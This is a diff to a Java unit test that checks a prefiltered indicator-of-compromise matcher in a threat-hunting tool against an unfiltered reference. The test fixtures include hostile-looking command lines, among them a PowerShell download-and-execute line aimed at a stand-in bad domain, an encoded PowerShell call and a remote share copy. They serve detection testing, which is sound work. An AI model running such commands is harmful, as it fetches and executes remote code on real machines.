@@ -28,7 +28,8 @@ import org.junit.jupiter.api.Test;
  * up) reports: same hits, same order, for every event.
  *
  * <p>Events are read the way {@code vigil hunt} reads flat JSON ({@link Normalizer#normalizeFlat}, string
- * values left encoded), each record twice so that neither matcher sees values the other decoded. They
+ * values left encoded), each record afresh for each matcher so that neither sees values the other
+ * decoded, and once more with every value decoded before matching (the filter then reads Strings). They
  * are the OTRF corpus under {@code ../shared/corpus/json} and generated records carrying every
  * indicator type in upper case, escaped ({@code \\uXXXX}, {@code \/}), padded, quoted, embedded,
  * with non-ASCII characters that fold to ASCII, and as near misses. The feed is the built-in bundle
@@ -67,8 +68,9 @@ class IocPrefilterDifferentialTest {
         {"mutex", "Global\\EvilMutex"},
     };
 
-    private static IocMatcher fast;
-    private static IocMatcher reference;
+    /** Matcher pairs (filtered, reference): all indicator kinds, and without URLs and IPv6 ranges. */
+    private static final List<IocMatcher[]> MATCHERS = new ArrayList<>();
+
     private static Normalizer normalizer;
 
     @BeforeAll
@@ -84,11 +86,23 @@ class IocPrefilterDifferentialTest {
             csv.append(p[0]).append('\t').append(p[1]).append('\n');
         }
         IocSet planted = CsvLoader.load("planted.tsv", csv.toString().getBytes(StandardCharsets.UTF_8), d -> {});
-        IocSet set = IocSet.merge(List.of(builtin, planted));
         assertThat(builtin.size()).as("built-in bundle").isGreaterThan(1000);
         assertThat(planted.size()).as("planted indicators").isGreaterThan(200);
-        fast = new IocMatcher(set, MatchOptions.defaults());
-        reference = IocMatcher.unfiltered(set, MatchOptions.defaults());
+        // free text is looked into only when the set holds neither URLs nor IPv6 ranges (as the built-in)
+        IocSet.Builder narrower = IocSet.builder();
+        for (Indicator i : planted.indicators()) {
+            if (i.clauses().stream()
+                    .flatMap(List::stream)
+                    .noneMatch(c -> c.type() == IocType.URL || c.key().indexOf(':') >= 0)) {
+                narrower.add(i);
+            }
+        }
+        for (IocSet set :
+                List.of(IocSet.merge(List.of(builtin, planted)), IocSet.merge(List.of(builtin, narrower.build())))) {
+            MATCHERS.add(new IocMatcher[] {
+                new IocMatcher(set, MatchOptions.defaults()), IocMatcher.unfiltered(set, MatchOptions.defaults())
+            });
+        }
     }
 
     @Test
@@ -127,8 +141,23 @@ class IocPrefilterDifferentialTest {
         assertThat(hits).as("generated records with a hit").isGreaterThan(records / 4);
     }
 
-    /** Both matchers on fresh events of {@code line}; the reference hits, or null if not read flat. */
+    /**
+     * Each pair of matchers on fresh events of {@code line}; the reference hits (all pairs), or null if
+     * the record is not read flat.
+     */
     private static List<IocHit> compare(String line, String what) {
+        List<IocHit> all = new ArrayList<>();
+        for (IocMatcher[] pair : MATCHERS) {
+            List<IocHit> hits = compare(pair[0], pair[1], line, what);
+            if (hits == null) {
+                return null;
+            }
+            all.addAll(hits);
+        }
+        return all;
+    }
+
+    private static List<IocHit> compare(IocMatcher fast, IocMatcher reference, String line, String what) {
         byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
         Event forFast = normalizer.normalizeFlat(bytes, bytes.length, 8 << 20, 64, WHERE);
         Event forReference = normalizer.normalizeFlat(bytes.clone(), bytes.length, 8 << 20, 64, WHERE);
@@ -137,6 +166,12 @@ class IocPrefilterDifferentialTest {
         }
         List<IocHit> expected = reference.match(forReference);
         assertThat(fast.match(forFast)).as(what).isEqualTo(expected);
+        // as in a hunt, where rules decode some values first: the filter then reads Strings
+        Event decodedFirst = normalizer.normalizeFlat(bytes.clone(), bytes.length, 8 << 20, 64, WHERE);
+        for (int i = 0; i < decodedFirst.size(); i++) {
+            decodedFirst.valueAt(i);
+        }
+        assertThat(fast.match(decodedFirst)).as("decoded first: %s", what).isEqualTo(expected);
         return expected;
     }
 
@@ -220,6 +255,9 @@ class IocPrefilterDifferentialTest {
             "powershell -enc AAAA",
             "iex (new-object net.webclient).downloadstring('https://bad-domain.example/x')",
             "exact.host.example:443",
+            "start http://evil.exact.host.example & copy \\\\fs.bad-domain.example\\c$\\x .",
+            "_.-sub.bad-domain.example-._ and 203.0.113.7. 198.51.100.250:80 x.y 1.2.3 a..bad-domain.example",
+            "Get-Item C:\\Windows\\system32\\drivers\\etc\\hosts; Resolve-DnsName Bad-Domain.Example",
         };
         for (String f : new String[] {"CommandLine", "ScriptBlockText", "Payload", "Details"}) {
             for (String t : texts) {
